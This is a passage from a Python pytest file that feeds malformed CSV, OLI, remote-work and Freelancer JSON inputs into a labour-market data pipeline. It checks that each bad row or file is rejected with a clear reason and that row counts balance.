"""A hostile corpus: bad inputs on the four input paths, each imported the way a user does
(`python -m pipeline fetch <source> --from <file>`, here through `run_fetch`) into an empty data
root, then built. Each case asserts that the build succeeds, that every record the test wrote is
accounted for exactly once (rows in = loaded + rejected + superseded) and which rejects name it.

The files are generated here, a few lines each; nothing large is committed.
"""

from __future__ import annotations

import contextlib
import csv as csv_module
import hashlib
import io
import json
import logging
import os
import re
import subprocess
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest

from pipeline.build.run import build_database
from pipeline.commands.fetch import run_fetch
from pipeline.sources import open_store
from pipeline.util import paths

WINDOW = "1763000000_1764000000"
CSV_HEADER = "buyer_country,seller_country,count,year\n"
OLI_EMPLOYERS = "timestamp,country,country_group,occupation,count\n"
OLI_WORKERS = "timestamp,country,occupation,num_workers,num_projects\n"
REMOTEWORK_HEADER = (
    '"","year","employer_country_real","employer_admin1","worker_country_real",'
    '"worker_admin1","count","employer_lat","employer_lng","worker_lat","worker_lng"\n'
)


@dataclass
class File:
    """One file the user imports: its name, bytes, and how many records the test wrote in it."""

    name: str
    content: bytes
    rows: int
    folder: str = "in"  # files sharing a folder are imported together (FROM=<folder>)
    # part of the message that refuses the file at import (nothing stored), if it is refused
    refused: str | None = None


@dataclass
class Case:
    source: str
    files: list[File]
    # (location, field, part of the reason) of every reject the build must hold, in any order
    rejects: list[tuple[str, str | None, str]] = field(default_factory=list)
    # rows of superseded versions (kept in the raw store, not loaded)
    superseded: int = 0
    # the total of core__tallies.amount for the source, where a double count would show
    total: float | None = None
    # the number of core__tasks rows (Freelancer), where a double count would show
    tasks: int | None = None
    # the total of core__tallies.amount per calendar year, where a year counted twice shows
    years: dict[int, float] | None = None


def csv(name: str, body: str, rows: int, **kw) -> File:
    return File(name, (CSV_HEADER + body).encode(), rows, **kw)


def oli_employers(name: str, body: str, rows: int, **kw) -> File:
    return File(name, (OLI_EMPLOYERS + body).encode(), rows, **kw)


def remotework(name: str, body: str, rows: int, **kw) -> File:
    return File(name, (REMOTEWORK_HEADER + body).encode(), rows, **kw)


def rw_row(n: int, year: str = "2015-01-01", employer: str = "united states", count: str = "3"):
    return (
        f'"{n}","{year}","{employer}","California","india","Delhi",{count},36.7,-119.4,28.7,77.1\n'
    )


def project(pid: int, **extra: object) -> dict:
    return {
        "id": pid,
        "owner_id": 11,
        "time_submitted": 1763500000,
        "jobs": [{"category": {"name": "Writing & Content"}}],
        **extra,
    }


USERS = {"11": {"id": 11, "location": {"country": {"code": "us"}}}}


def freelancer(projects: list, name: str = f"projects_{WINDOW}_0000000.json") -> File:
    body = json.dumps({"status": "success", "result": {"projects": projects, "users": USERS}})
    return File(name, body.encode(), len(projects))


def page_text(name: str, text: str, rows: int) -> File:
    return File(name, text.encode(), rows)


GOOD = "USA,IND,120,2019\nGBR,PAK,40,2019\n"
DATASET_HEADER = b"buyer_country,seller_country,count,year,dataset\n"
PLATFORM_HEADER = b"buyer_country,seller_country,count,year,platform\n"
F = "flows.csv"

CASES: dict[str, Case] = {
    # -- user CSV: numbers ------------------------------------------------------------------
    "csv count 1e308": Case(
        "csv",
        [csv(F, GOOD + "USA,PHL,1e308,2019\n", 3)],
        [(f"{F}:4", "count", "not a whole count: '1e308' has an exponent")],
        total=160,
    ),
    "csv two rows overflowing to inf": Case(
        "csv",
        [csv(F, "USA,IND,1e308,2019\nUSA,IND,1.7e308,2019\nGBR,PAK,5,2019\n", 3)],
        [(f"{F}:2", "count", "'1e308' has an exponent"), (f"{F}:3", "count", "an exponent")],
        total=5,
    ),
    "csv negative count": Case(
        "csv",
        [csv(F, GOOD + "USA,PHL,-4,2019\n", 3)],
        [(f"{F}:4", "count", "between 0")],
        total=160,
    ),
    "csv inf and nan": Case(
        "csv",
        [csv(F, "USA,PHL,inf,2019\nUSA,PHL,nan,2019\n" + GOOD, 4)],
        [(f"{F}:2", "count", "not a number: 'inf'"), (f"{F}:3", "count", "not a number: 'nan'")],
        total=160,
    ),
    "csv count that is text": Case(
        "csv", [csv(F, GOOD + "USA,PHL,many,2019\n", 3)], [(f"{F}:4", "count", "")], total=160
    ),
    # -- user CSV: dates ------------------------------------------------------------------------
    "csv year 1850": Case(
        "csv", [csv(F, GOOD + "USA,PHL,4,1850\n", 3)], [(f"{F}:4", "year", "not a year")]
    ),
    "csv year 2201": Case(
        "csv", [csv(F, GOOD + "USA,PHL,4,2201\n", 3)], [(f"{F}:4", "year", "not a year")]
    ),
    "csv year true": Case(
        "csv", [csv(F, GOOD + "USA,PHL,4,true\n", 3)], [(f"{F}:4", "year", "not a year")]
    ),
    "csv year 2015-13-45": Case(
        "csv", [csv(F, GOOD + "USA,PHL,4,2015-13-45\n", 3)], [(f"{F}:4", "year", "")]
    ),
    # -- user CSV: countries -------------------------------------------------------------------
    "csv unknown country": Case(
        "csv",
        [csv(F, GOOD + "Atlantis,IND,4,2019\n", 3)],
        [(f"{F}:4", "buyer_country", "unknown country 'Atlantis'")],
        total=160,
    ),
    "csv ambiguous country names": Case(
        "csv",
        [
            csv(
                F,
                GOOD + "Virgin Islands,IND,4,2019\nUSA,St. Martin,4,2019\nYugoslavia,IND,1,2010\n",
                5,
            )
        ],
        [
            (f"{F}:4", "buyer_country", "unknown country 'Virgin Islands'"),
            (f"{F}:5", "seller_country", "unknown country 'St. Martin'"),
            (f"{F}:6", "buyer_country", "unknown country 'Yugoslavia'"),
        ],
        total=160,
    ),
    "csv N/A is no country (not Namibia)": Case(
        "csv",
        [csv(F, GOOD + "USA,N/A,4,2019\n", 3)],
        [(f"{F}:4", "seller_country", "unknown country 'N/A'")],
        total=160,
    ),
    "csv non-country region": Case(
        "csv",
        [csv(F, GOOD + "USA,Asia,4,2019\n", 3)],
        [(f"{F}:4", "seller_country", "'Asia'")],
        total=160,
    ),
    "csv empty country": Case(
        "csv", [csv(F, GOOD + ",IND,4,2019\n", 3)], [(f"{F}:4", "buyer_country", "")], total=160
    ),
    # -- user CSV: structure -----------------------------------------------------------------
    "csv exact duplicate rows": Case(
        "csv",
        # the two repeats are one reject, which counts for both lines
        [csv(F, GOOD + "USA,IND,120,2019\n" * 2, 4)],
        [(f"{F}:4", None, "exact duplicate of line 2 (counted once): 2 repeats, on lines 4, 5")],
        total=160,
    ),
    "csv unbalanced quote": Case(
        "csv",
        [csv(F, 'USA,"IND,120,2019\n' + GOOD + "FRA,MAR,4,2019\n", 4)],
        # the quote never closes: line 2 alone is rejected, lines 3-5 load
        [(f"{F}:2", None, "broken CSV quoting (unexpected end of data)")],
        total=164,
    ),
    "csv duplicated header column": Case(
        "csv",
        [File(F, b"buyer_country,seller_country,count,count,year\nUSA,IND,1,2,2019\n", 1)],
        [(F, None, "count")],
    ),
    "csv missing column": Case(
        "csv",
        [File(F, b"buyer_country,seller_country,year\nUSA,IND,2019\n", 1)],
        [(f"{F}:1", "count", "no count column in the header")],
    ),
    "csv one bad byte": Case(
        "csv",
        [File(F, (CSV_HEADER + GOOD).encode() + b"USA,PH\xffL,4,2019\nFRA,MAR,4,2019\n", 4)],
        [
            (
                f"{F}:4",
                None,
                "this line is not UTF-8 (an undecodable byte): save the file as UTF-8",
            ),
        ],
        total=164,
    ),
    "csv quoted field spanning two lines": Case(
        "csv",
        [csv(F, 'USA,"IN\nD",120,2019\nGBR,PAK,40,2019\nXXX,PAK,1,2019\n', 3)],
        [(f"{F}:2", "seller_country", ""), (f"{F}:5", "buyer_country", "'XXX'")],
        total=40,
    ),
    "csv NUL byte": Case(
        "csv",
        [csv(F, GOOD + "USA,P\x00HL,4,2019\n", 3)],
        [(f"{F}:4", "seller_country", "unknown country 'P\\x00HL'")],
        total=160,
    ),
    "csv wrong number of cells": Case(
        "csv", [csv(F, GOOD + "USA,PHL,4\n", 3)], [(f"{F}:4", None, "")], total=160
    ),
    "csv BOM": Case("csv", [File(F, b"\xef\xbb\xbf" + (CSV_HEADER + GOOD).encode(), 2)], total=160),
    "csv CRLF": Case(
        "csv", [File(F, (CSV_HEADER + GOOD).replace("\n", "\r\n").encode(), 2)], total=160
    ),
    "csv semicolons": Case(
        "csv",
        [File(F, (CSV_HEADER + GOOD).replace(",", ";").encode(), 2)],
        total=160,
    ),
    "csv decimal comma in a semicolon table": Case(
        "csv",
        [
            File(
                F, b"buyer_country;seller_country;count;year\nUSA;IND;1,5;2019\nGBR;PAK;2;2019\n", 2
            )
        ],
        [(f"{F}:2", "count", "'1,5' has a thousands separator or a decimal comma")],
        total=2,
    ),
    "csv blank lines keep line numbers": Case(
        "csv",
        [csv(F, "\nUSA,IND,3,2019\n\n\nGBR,PAK,2,2019\nXXX,IND,1,2019\n", 3)],
        [(f"{F}:7", "buyer_country", "unknown country 'XXX'")],
        total=5,
    ),
    "csv UTF-16": Case(
        "csv",
        [File(F, (CSV_HEADER + GOOD).encode("utf-16"), 2)],
        [(F, None, "the file is UTF-16 little-endian text, not UTF-8: save it as UTF-8")],
    ),
    "csv Latin-1 file": Case(
        "csv",
        [File(F, (CSV_HEADER + GOOD + "Côte d'Ivoire,IND,3,2019\n").encode("latin-1"), 3)],
        # the real reason and the fix, not "fix the spelling"
        [(f"{F}:4", None, "not UTF-8 (an undecodable byte): save the file as UTF-8")],
        total=160,
    ),
    "csv empty file": Case(
        "csv", [File(F, b"", 0)], [(f"{F}:1", "buyer_country", "no buyer_country, seller_country")]
    ),
    "csv header only": Case("csv", [csv(F, "", 0)]),
    "csv huge field": Case(
        "csv",
        [csv(F, GOOD + "USA," + "I" * 1_000_000 + ",4,2019\n", 3)],
        [(f"{F}:4", "seller_country", "longer than 200 characters")],
        total=160,
    ),
    # -- user CSV: re-imports ----------------------------------------------------------------
    "csv corrected re-import": Case(
        "csv",
        [csv(F, GOOD, 2, folder="first"), csv(F, "USA,IND,12,2019\nGBR,PAK,40,2019\n", 2)],
        superseded=2,
        total=52,
    ),
    "csv same table with other line endings": Case(
        "csv",
        [
            csv(F, GOOD, 2, folder="first"),
            File(F, (CSV_HEADER + GOOD).replace("\n", "\r\n").encode(), 2),
        ],
        superseded=2,
        total=160,
    ),
    "csv folder with a file and its copy": Case(
        "csv", [csv(F, GOOD, 2), csv("flows copy.csv", GOOD, 2)], total=160
    ),
    "csv the same file twice": Case(
        "csv", [csv(F, GOOD, 2, folder="first"), csv(F, GOOD, 2)], total=160
    ),
    # -- user CSV: several files giving the same flow key (pair, year, platform, occupation) --
    "csv folder with a file and its corrected copy": Case(
        "csv",
        [
            csv(F, GOOD, 2, folder="first"),
            csv(F, GOOD, 2),
            csv("flows (corrected).csv", "USA,IND,12,2019\nGBR,PAK,40,2019\n", 2),
        ],
        superseded=2,
        total=52,
    ),
    "csv two files with other keys both load": Case(
        "csv",
        [csv("flows_2019.csv", GOOD, 2), csv("flows_2020.csv", GOOD.replace("2019", "2020"), 2)],
        total=320,
    ),
    "csv partial overlap keeps the older file's other rows": Case(
        "csv",
        [
            csv(F, GOOD + "FRA,MAR,7,2019\n", 3, folder="first"),
            csv("flows_fixed.csv", "USA,IND,12,2019\nDEU,TUR,5,2019\n", 2),
        ],
        superseded=1,
        total=12 + 40 + 7 + 5,
    ),
    "csv the later import wins whatever the names": Case(
        "csv",
        [csv("b.csv", GOOD, 2, folder="first"), csv("a.csv", "USA,IND,12,2019\n", 1)],
        superseded=1,
        total=12 + 40,
    ),
    # -- user CSV: two independent tables kept apart by the user ----------------------------
    "csv a dataset column keeps two tables apart": Case(
        "csv",
        [
            File("survey_a.csv", DATASET_HEADER + b"USA,IND,120,2019,survey A\n", 1, "first"),
            File("survey_b.csv", DATASET_HEADER + b"USA,IND,12,2019,survey B\n", 1),
        ],
        total=120 + 12,
    ),
    "csv a corrected copy of the same dataset still replaces it": Case(
        "csv",
        [
            File("survey_a.csv", DATASET_HEADER + b"USA,IND,120,2019,survey A\n", 1, "first"),
            File("survey_a_fixed.csv", DATASET_HEADER + b"USA,IND,12,2019,survey A\n", 1),
        ],
        superseded=1,
        total=12,
    ),
    "csv distinct platforms keep two tables apart": Case(
        "csv",
        [
            File("a.csv", PLATFORM_HEADER + b"USA,IND,120,2019,Upwork\n", 1, "first"),
            File("b.csv", PLATFORM_HEADER + b"USA,IND,12,2019,Fiverr\n", 1),
        ],
        total=120 + 12,
    ),
    "csv the later import wins, names the other way": Case(
        "csv",
        [csv("a.csv", "USA,IND,12,2019\n", 1, folder="first"), csv("b.csv", GOOD, 2)],
        superseded=1,
        total=160,
    ),
}

E16 = "bcountrydata_2016-07-10.txt"
EMPLOYERS = (
    "2016-06-01,United States,United States,Writing and translation,10\n"
    "2016-06-01,India,India,Software development and technology,6\n"
)
JULY = "2016-07-01,India,India,Writing and translation,3\n"
RW = "olm_network_data_2015.csv"
RW14, Y14 = "olm_network_data_2014.csv", "2014-01-01"
PAGE = f"projects_{WINDOW}_0000000.json"
DEEP = '{"status": "success", "result": ' + "[" * 100_000 + "]" * 100_000 + "}"

CASES.update(
    {
        # -- OLI deposit files ------------------------------------------------------------------
        "oli count 1e308": Case(
            "oli",
            [
                oli_employers(
                    E16, EMPLOYERS + "2016-06-01,India,India,Writing and translation,1e308\n", 3
                )
            ],
            [(f"{E16}:4", "count", "'1e308' has an exponent")],
        ),
        "oli counts summing to infinity": Case(
            "oli",
            [
                oli_employers(
                    E16,
                    EMPLOYERS
                    + "2016-06-01,India,India,Writing and translation,1.7e308\n"
                    + "2016-06-02,India,India,Writing and translation,1.7e308\n",
                    4,
                )
            ],
            [(f"{E16}:4", "count", "an exponent"), (f"{E16}:5", "count", "an exponent")],
        ),
        "oli negative count": Case(
            "oli",
            [
                oli_employers(
                    E16, EMPLOYERS + "2016-06-01,India,India,Writing and translation,-3\n", 3
                )
            ],
            [(f"{E16}:4", "count", "between 0")],
        ),
        "oli date 1850": Case(
            "oli",
            [
                oli_employers(
                    E16, EMPLOYERS + "1850-06-01,India,India,Writing and translation,3\n", 3
                )
            ],
            [(f"{E16}:4", "timestamp", "")],
        ),
        "oli date true": Case(
            "oli",
            [oli_employers(E16, EMPLOYERS + "true,India,India,Writing and translation,3\n", 3)],
            [(f"{E16}:4", "timestamp", "")],
        ),
        "oli date 2201": Case(
            "oli",
            [
                oli_employers(
                    E16, EMPLOYERS + "2201-06-01,India,India,Writing and translation,3\n", 3
                )
            ],
            [(f"{E16}:4", "timestamp", "")],
        ),
        "oli date 2015-13-45": Case(
            "oli",
            [
                oli_employers(
                    E16, EMPLOYERS + "2015-13-45,India,India,Writing and translation,3\n", 3
                )
            ],
            [(f"{E16}:4", "timestamp", "")],
        ),
        "oli unknown country and occupation": Case(
            "oli",
            [
                oli_employers(
                    E16,
                    EMPLOYERS
                    + "2016-06-01,Atlantis,Atlantis,Writing and translation,3\n"
                    + "2016-06-01,India,India,Juggling,3\n",
                    4,
                )
            ],
            [(f"{E16}:4", "country", "Atlantis"), (f"{E16}:5", "occupation", "unknown occupation")],
        ),
        "oli exact duplicate rows": Case(
            "oli",
            [oli_employers(E16, EMPLOYERS + EMPLOYERS.splitlines(keepends=True)[0], 3)],
            [(f"{E16}:4", None, "exact duplicate of line 2 (counted once)")],
        ),
        "oli re-issued deposit beside the old one": Case(
            "oli",
            [
                oli_employers(E16, EMPLOYERS, 2),
                oli_employers("bcountrydata_2024-01-10.txt", EMPLOYERS.replace("2016", "2023"), 2),
            ],
            superseded=2,
        ),
        # a day of a series is taken from one file: an extract saved beside the deposit gives
        # none of its days twice, and is reported as superseded, row by row
        "oli an extract of the deposit beside it": Case(
            "oli",
            [
                oli_employers(E16, EMPLOYERS + JULY, 3, folder="first"),
                oli_employers("bcountrydata_june.txt", EMPLOYERS, 2),
            ],
            superseded=2,
            # June 10 + 6 and July 3 projects, and the year's shares adding up to 100
            total=10 + 6 + 3 + 100,
        ),
        "oli two worker files of other days both load": Case(
            "oli",
            [
                File(
                    "worker_countrydata_2017-07-05.txt",
                    (
                        OLI_WORKERS + "2017-06-16,India,Writing and translation,20.5,0\n"
                        "2017-06-16,Bangladesh,Clerical and data entry,14.0,0\n"
                    ).encode(),
                    2,
                ),
                File(
                    "worker_countrydata_2020.txt",
                    (OLI_WORKERS + "2020-01-01,India,Writing and translation,1.0,0\n").encode(),
                    1,
                ),
            ],
            # June 2017 (20.5 and 14 workers, one collection day) with its shares, and
            # January 2020 (1 worker) with its share
            total=20.5 + 14 + 100 + 1 + 100,
        ),
        "oli one bad byte": Case(
            "oli",
            [
                File(
                    E16,
                    (OLI_EMPLOYERS + EMPLOYERS).encode()
                    + b"2016-06-01,Ind\xe9a,India,Writing and translation,3\n",
                    3,
                )
            ],
            [
                (
                    f"{E16}:4",
                    None,
                    "this line is not UTF-8 (an undecodable byte): save the file as UTF-8",
                ),
            ],
        ),
        "oli worker count 1e308": Case(
            "oli",
            [
                File(
                    "worker_countrydata_2017-07-05.txt",
                    (
                        OLI_WORKERS + "2017-06-16,India,Writing and translation,1e308,0\n"
                        "2017-06-16,India,Software development and technology,68.0,0\n"
                    ).encode(),
                    2,
                )
            ],
            [("worker_countrydata_2017-07-05.txt:2", "num_workers", "between 0 and 1e12")],
        ),
        # a file that is not the series its name says is refused, never stored: it would
        # otherwise be taken as the newest deposit and replace the real one
        "oli empty file": Case(
            "oli", [File(E16, b"", 0, refused="its name says bcountrydata, but it is empty")]
        ),
        "oli header only": Case(
            "oli",
            [File(E16, OLI_EMPLOYERS.encode(), 0, refused="holds no row (a header alone)")],
        ),
        "oli header of another file": Case(
            "oli",
            [File(E16, b"a,b,c\n1,2,3\n", 1, refused="is that of no OLI deposit file")],
        ),
        "oli a worker file saved as a later employer deposit": Case(
            "oli",
            [
                oli_employers(E16, EMPLOYERS, 2, folder="first"),
                File(
                    "bcountrydata_2017-07-05.txt",
                    (
                        OLI_WORKERS + "2017-06-16,India,Writing and translation,20.5,0\n"
                        "2017-06-16,Bangladesh,Clerical and data entry,14.0,0\n"
                    ).encode(),
                    2,
                    refused="its name says bcountrydata (the employer countries' projects), but "
                    "its columns are those of worker_countrydata",
                ),
            ],
            # the 2016 deposit stays loaded: 10 + 6 projects in June 2016, and the year's
            # shares 62.5 % + 37.5 %
            total=10 + 6 + 100,
        ),
        "oli rows dated after the deposit's own date": Case(
            "oli",
            [
                oli_employers(
                    E16,
                    EMPLOYERS
                    + "2016-07-11,India,India,Writing and translation,3\n"
                    + "2017-01-05,India,India,Writing and translation,2\n",
                    4,
                )
            ],
            [
                (f"{E16}:4", "timestamp", "dated 2016-07-11, after the date of the deposit"),
                (f"{E16}:5", "timestamp", "dated 2017-01-05, after the date of the deposit"),
            ],
            total=10 + 6 + 100,
        ),
        # -- remote-work network files ------------------------------------------------------------
        "remotework count 1e308": Case(
            "remotework",
            [remotework(RW, rw_row(1) + rw_row(2, count="1e308"), 2)],
            [(f"{RW}:3", "count", "'1e308' has an exponent")],
        ),
        "remotework date 2015-13-45": Case(
            "remotework",
            [remotework(RW, rw_row(1) + rw_row(2, year="2015-13-45"), 2)],
            [(f"{RW}:3", "year", "")],
        ),
        "remotework date 1850": Case(
            "remotework",
            [remotework(RW, rw_row(1) + rw_row(2, year="1850-01-01"), 2)],
            [(f"{RW}:3", "year", "")],
        ),
        "remotework negative count": Case(
            "remotework",
            [remotework(RW, rw_row(1) + rw_row(2, count="-2"), 2)],
            [(f"{RW}:3", "count", "between 0")],
        ),
        "remotework unknown country": Case(
            "remotework",
            [remotework(RW, rw_row(1) + rw_row(2, employer="narnia"), 2)],
            [(f"{RW}:3", "employer_country_real", "narnia")],
        ),
        "remotework exact duplicate rows": Case(
            "remotework",
            [remotework(RW, rw_row(1) + rw_row(2) + rw_row(2), 3)],
            [(f"{RW}:4", None, "exact duplicate of line 3 (counted once)")],
        ),
        "remotework NA country": Case(
            "remotework",
            [remotework(RW, rw_row(1) + rw_row(2, employer="NA"), 2)],
            [(f"{RW}:3", "employer_country_real", "missing country (NA)")],
        ),
        "remotework empty file": Case(
            "remotework", [File(RW, b"", 0, refused="its name says 2015, but it is empty")]
        ),
        # one year is read from one file: rows of another year are rejected by line, and a
        # file that is another year's is refused, so 2014 keeps the figures of its own file
        "remotework a 2015 file also carrying 2014 rows, beside the 2014 file": Case(
            "remotework",
            [
                remotework(
                    RW14, rw_row(1, Y14) + rw_row(2, Y14, "united kingdom", "4"), 2, folder="first"
                ),
                remotework(
                    RW,
                    rw_row(1)
                    + rw_row(2, count="5")
                    + rw_row(3, count="2")
                    + rw_row(4, Y14)
                    + rw_row(5, Y14, "united kingdom", "4"),
                    5,
                ),
            ],
            [
                (f"{RW}:5", "year", "a row of 2014 in the file of 2015"),
                (f"{RW}:6", "year", "a row of 2014 in the file of 2015"),
            ],
            years={2014: 3 + 4, 2015: 3 + 5 + 2},
        ),
        "remotework the 2015 file saved under the 2014 name": Case(
            "remotework",
            [
                remotework(
                    RW14, rw_row(1, Y14) + rw_row(2, Y14, "united kingdom", "4"), 2, folder="first"
                ),
                remotework(
                    RW14,
                    rw_row(1) + rw_row(2, count="5") + rw_row(3, count="1"),
                    3,
                    refused="its name says 2014, but only 0 of its 3 rows are of 2014 (3 of 2015): "
                    "save it as olm_network_data_2015.csv",
                ),
            ],
            years={2014: 3 + 4},
        ),
        "remotework a 2014 file with a few 2015 rows keeps its 2014 rows": Case(
            "remotework",
            [remotework(RW14, rw_row(1, Y14) + rw_row(2, Y14, count="2") + rw_row(3), 3)],
            [(f"{RW14}:4", "year", "a row of 2015 in the file of 2014")],
            years={2014: 3 + 2},
        ),
        "remotework corrected re-import": Case(
            "remotework",
            [
                remotework(RW, rw_row(1) + rw_row(2), 2, folder="first"),
                remotework(RW, rw_row(1) + rw_row(2, count="5"), 2),
            ],
            superseded=2,
        ),
        "remotework unbalanced quote": Case(
            "remotework",
            [remotework(RW, rw_row(1) + rw_row(2).replace('"2"', '"2'), 2)],
            [(f"{RW}:3", None, "broken CSV quoting")],
        ),
        # -- Freelancer pages ---------------------------------------------------------------------
        "freelancer jobs is an object": Case(
            "freelancer",
            [
                freelancer(
                    [project(1), project(2, jobs={"category": {"name": "Writing & Content"}})]
                )
            ],
            [(f"{PAGE}:projects[1]", "projects[1].jobs", "")],
        ),
        "freelancer JSON nested 100000 deep": Case(
            "freelancer", [page_text(PAGE, DEEP, 1)], [(PAGE, None, "nested too deeply")]
        ),
        "freelancer one malformed record in a good page": Case(
            "freelancer",
            [freelancer([project(1), "not an object", project(3)])],
            [(f"{PAGE}:projects[1]", "projects[1]", "")],
        ),
        "freelancer date 1970 as true": Case(
            "freelancer",
            [freelancer([project(1), project(2, time_submitted=True)])],
            [(f"{PAGE}:projects[1]", "projects[1].time_submitted", "")],
        ),
        "freelancer date 2201": Case(
            "freelancer",
            [freelancer([project(1), project(2, time_submitted=7289539200)])],
            [(f"{PAGE}:projects[1]", "projects[1].time_submitted", "")],
        ),
        "freelancer date 1850": Case(
            "freelancer",
            [freelancer([project(1), project(2, time_submitted=-3786825600)])],
            [(f"{PAGE}:projects[1]", "projects[1].time_submitted", "")],
        ),
        "freelancer owner in an unknown country": Case(
            "freelancer",
            [
                File(
                    PAGE,
                    json.dumps(
                        {
                            "status": "success",
                            "result": {
                                "projects": [project(1), project(2, owner_id=12)],
                                "users": {
                                    **USERS,
                                    "12": {"id": 12, "location": {"country": {"code": "zz"}}},
                                },
                            },
                        }
                    ).encode(),
                    2,
                )
            ],
            [(f"{PAGE}:projects[1]", "users[12].location.country", "unknown country 'zz'")],
        ),
        "freelancer an error answer": Case(
            "freelancer",
            [page_text(PAGE, '{"status": "error", "message": "rate limited"}', 1)],
            [(PAGE, None, "")],
        ),
        "freelancer an HTML page": Case(
            "freelancer", [page_text(PAGE, "<html>maintenance</html>", 1)], [(PAGE, None, "")]
        ),
        "freelancer an empty file": Case(
            "freelancer", [page_text(PAGE, "", 1)], [(PAGE, None, "")]
        ),
        "freelancer the same project in two pages": Case(
            "freelancer",
            [
                freelancer([project(1)]),
                freelancer([project(1), project(2)], name=f"projects_{WINDOW}_0000050.json"),
            ],
            tasks=2,
        ),
        "freelancer result null": Case(
            "freelancer", [page_text(PAGE, '{"status": "success", "result": null}', 0)]
        ),
        "freelancer id true or too large": Case(
            "freelancer",
            [freelancer([project(True), project(10**30), project(3)])],
            [
                (f"{PAGE}:projects[0]", "projects[0].id", "no id"),
                (f"{PAGE}:projects[1]", "projects[1].id", "no id"),
            ],
            tasks=1,
        ),
        "freelancer budget 1e308": Case(
            "freelancer",
            [freelancer([project(1, budget={"minimum": 1e308, "maximum": 1e308}), project(2)])],
            [(f"{PAGE}:projects[0]", "projects[0].budget", "not an amount between 0 and 1e+09")],
            tasks=1,
        ),
        "freelancer NaN budget": Case(
            "freelancer",
            [freelancer([project(1, budget={"minimum": float("nan")}), project(2)])],
            [(f"{PAGE}:projects[0]", "projects[0].budget", "not a number")],
            tasks=1,
        ),
        "freelancer a huge title": Case(
            "freelancer", [freelancer([project(1, title="x" * 2_000_000), project(2)])]
        ),
    }
)


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def oli_workers(name: str, body: str, rows: int, **kw) -> File:
    return File(name, (OLI_WORKERS + body).encode(), rows, **kw)


W17 = "worker_countrydata_2017-07-05.txt"
SEMICOLONS = "buyer_country;seller_country;count;year\nUSA;IND;120;2019\nGBR;PAK;40;2019\n"

# Round three: files that lie about themselves (a signature inside, another encoding, an
# archive in an archive), a quote that never closes, numbers written as people write them.
CASES.update(
    {
        # -- a quote that never closes rejects its own line; the lines after it load --------
        "csv unclosed quote mid-file, the rows after it load": Case(
            "csv",
            [csv(F, GOOD + 'FRA,"MAR,4,2019\n' + "DEU,TUR,5,2019\nESP,MAR,6,2019\n", 5)],
            [(f"{F}:4", None, "broken CSV quoting (unexpected end of data): a quote that")],
            total=160 + 5 + 6,
        ),
        "csv unclosed quote on the last line": Case(
            "csv",
            [csv(F, GOOD + 'FRA,MAR,4,"2019\n', 3)],
            [(f"{F}:4", None, "this line alone is rejected")],
            total=160,
        ),
        "csv a quote that closes spans lines, a stray one does not": Case(
            "csv",
            [csv(F, '"United States\n",IND,1,2019\nGBR,"PAK,2,2019\nFRA,MAR,3,2019\n', 3)],
            [(f"{F}:4", None, "broken CSV quoting")],
            total=1 + 3,
        ),
        "remotework a quote closing mid-field rejects one line": Case(
            "remotework",
            [remotework(RW, rw_row(1) + rw_row(2).replace('"Delhi"', '"Delhi') + rw_row(3), 3)],
            [(f"{RW}:3", None, "broken CSV quoting")],
            total=6,
        ),
        "oli unclosed quote mid-file": Case(
            "oli",
            [
                oli_employers(
                    E16,
                    EMPLOYERS
                    + '2016-06-01,"India,India,Writing and translation,3\n'
                    + "2016-06-02,India,India,Writing and translation,4\n",
                    4,
                )
            ],
            [(f"{E16}:4", None, "broken CSV quoting")],
        ),
        # -- archives by their leading bytes only ---------------------------------------------
        "csv end-of-zip signature in a cell near the end": Case(
            "csv",
            [csv(F, GOOD + "PK\x05\x06land,IND,4,2019\nFRA,MAR,4,2019\nDEU,TUR,5,2019\n", 5)],
            [(f"{F}:4", "buyer_country", "unknown country")],
            total=160 + 4 + 5,
        ),
        "remotework zip signatures in cells": Case(
            "remotework",
            [
                remotework(
                    RW,
                    rw_row(1)
                    + rw_row(2).replace("California", "PK\x03\x04")
                    + rw_row(3).replace("Delhi", "PK\x05\x06" + "x" * 30),
                    3,
                )
            ],
            total=9,
        ),
        "oli zip inside a zip": Case(
            "oli",
            [
                # refused at import: what the name claims cannot be checked inside a zip's zip
                File(
                    E16 + ".zip",
                    _zip({"inner.zip": _zip({E16: (OLI_EMPLOYERS + EMPLOYERS).encode()})}),
                    2,
                    refused="the archive holds another archive (a zip file): extract it and import",
                )
            ],
        ),
        "csv zip inside a zip": Case(
            "csv",
            [File(F, _zip({"flows.zip": _zip({F: (CSV_HEADER + GOOD).encode()})}), 2)],
            [(F, None, "the archive holds another archive (a zip file)")],
        ),
        # -- encodings and Excel's first line ------------------------------------------------
        "csv UTF-16 big-endian": Case(
            "csv",
            [File(F, (CSV_HEADER + GOOD).encode("utf-16-be"), 2)],
            [(F, None, "UTF-16 big-endian text, not UTF-8: save it as UTF-8")],
        ),
        "csv UTF-16 big-endian with a BOM": Case(
            "csv",
            [File(F, ("\ufeff" + CSV_HEADER + GOOD).encode("utf-16-be"), 2)],
            [(F, None, "iconv -f UTF-16BE -t UTF-8")],
        ),
        "csv Excel's sep=; first line": Case(
            "csv",
            [File(F, ("sep=;\n" + SEMICOLONS + "XXX;IND;1;2019\n").encode(), 3)],
            [(f"{F}:5", "buyer_country", "unknown country 'XXX'")],
            total=160,
        ),
        "remotework sep=; it does not read": Case(
            "remotework",
            # refused at import: read with the source's own delimiter, it has no year column
            [
                File(
                    RW,
                    b"sep=;\n" + REMOTEWORK_HEADER.replace(",", ";").encode(),
                    0,
                    refused="its header has no year column: it is not an olm_network_data file",
                )
            ],
        ),
        "csv misspelled headers": Case(
            "csv",
            [File(F, b"buyer_contry,seller_country,count,yaer\nUSA,IND,1,2019\n", 1)],
            [(f"{F}:1", "buyer_country", "no buyer_country (did you mean 'buyer_contry'?")],
        ),
        # -- a strict number grammar ---------------------------------------------------------
        "csv European thousands separator": Case(
            "csv",
            [csv(F, GOOD + "USA,PHL,1.234,2019\n", 3)],
            [(f"{F}:4", "count", "'1.234' reads as a number with a thousands separator (1234)")],
            total=160,
        ),
        "csv underscore, signed zero, fraction, exponent": Case(
            "csv",
            [
                csv(
                    F,
                    GOOD + "USA,PHL,1_000,2019\nUSA,BGD,-0,2019\nUSA,NPL,2.5,2019\n"
                    "USA,LKA,1e3,2019\n",
                    6,
                )
            ],
            [
                (f"{F}:4", "count", "'1_000' holds '_'"),
